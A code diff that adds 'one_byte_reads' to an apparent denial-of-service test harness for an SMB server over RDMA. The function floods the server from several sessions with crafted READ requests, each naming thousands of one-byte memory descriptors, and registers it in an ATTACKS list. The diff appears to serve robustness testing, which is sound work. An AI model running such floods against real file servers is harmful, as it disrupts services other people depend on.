@@ -194,6 +194,41 @@ def scattered_memory(g):
     g.again(once)
 
 
+def one_byte_reads(g):
+    """READs into memory of as many pieces as a request can name, a byte each: an RDMA WRITE for each byte."""
+    (g.smbd.share_path() / "pieces").write_bytes(bytes(65536))
+    pieces, at_once = 4095, 3
+    info = descriptors(*((2 * i, 0x77, 1) for i in range(pieces)))
+    least = at_once * pieces * 24  # bytes that answer
+
+    def ask(c, f, flood):
+        frames = []
+        for _ in range(at_once):
+            pdu = c.build(smb2.READ, smb2.read_body(f, pieces, 0, channel=1, info=info))
+            room = c.transport.max_send_size - 24
+            for at in range(0, len(pdu), room):
+                part = pdu[at : at + room]
+                frames.append(flood.frame(part, remaining=len(pdu) - at - len(part), grant=2))
+        flood.send(frames)
+
+    clients = []
+    for c in g.many(5, g.session):
+        f = c.create("pieces", access=0x00120089, disposition=1)
+        while c.credits < 60:
+            c.echo().check()
+        clients.append((c, f, Flood(c.transport)))
+    with contextlib.suppress(*ENDED):
+        while not g.over():
+            for client in clients:
+                ask(*client)
+            for c, _, _ in clients:
+                c.transport.iwarp.sock.settimeout(2)
+                come = 0
+                while come < least and (data := c.transport.iwarp.sock.recv(MIB)):
+                    come += len(data)
+            g.did += len(clients) * at_once
+
+
 def pending_notifies(g):
     """Folders are watched, by the hundred: honest, but each answer may come one day and must fit."""
     (g.smbd.share_path() / "watched").mkdir(exist_ok=True)
@@ -287,5 +322,5 @@ def vanished_writers(g):
 
 
 ATTACKS = [unanswered_reads, half_compounds, half_requests, one_byte_pieces, cancel_flood, cancel_flood_smbd_stands, echo_flood,
-           session_setup_garbage, come_and_go, silent_after_negotiate, scattered_memory, pending_notifies, late_cancels,
+           session_setup_garbage, come_and_go, silent_after_negotiate, scattered_memory, one_byte_reads, pending_notifies, late_cancels,
            compound_reads, reads_nobody_takes, shut_windows, vanished_writers]  # fmt: skip
